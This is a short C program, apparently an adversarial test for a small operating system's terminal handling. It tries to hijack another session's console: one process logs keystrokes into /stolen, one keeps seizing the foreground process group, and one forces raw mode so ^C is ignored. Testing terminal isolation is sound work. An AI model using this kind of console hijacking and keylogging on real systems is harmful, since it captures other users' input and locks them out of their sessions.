/*
 * ttygrab: tries to take the console from another session, by three processes
 * that try again for ever: one reads it into /stolen, one gives it to itself,
 * with ^C an ordinary key, and one makes it raw.
 */
#include "user/lib/err.h"
#include "user/lib/unistd.h"

static void read_keys(int console)
{
    int stolen = open("/stolen", O_WRONLY | O_CREAT | O_TRUNC);
    char key;

    if (stolen < 0)
        err(1, "/stolen");
    while (read(console, &key, 1) == 1)
        write(stolen, &key, 1);
}

static void take_group(int console)
{
    for (;;) {
        tcsetpgrp(console, 0);
        sleep_ms(1);
    }
}

static void make_raw(int console)
{
    for (;;) {
        ttymode(console, TTY_RAW);
        sleep_ms(1);
    }
}

int main(void)
{
    static void (*const attacks[])(int console) = {read_keys, take_group,
                                                   make_raw};
    int console = open("/dev/console", O_RDWR);

    if (console < 0)
        err(1, "/dev/console");
    for (size_t i = 0; i < ARRAY_SIZE(attacks); i++)
        if (fork() == 0)
            attacks[i](console);
    while (wait(NULL) > 0)
        ;
    return 0;
}
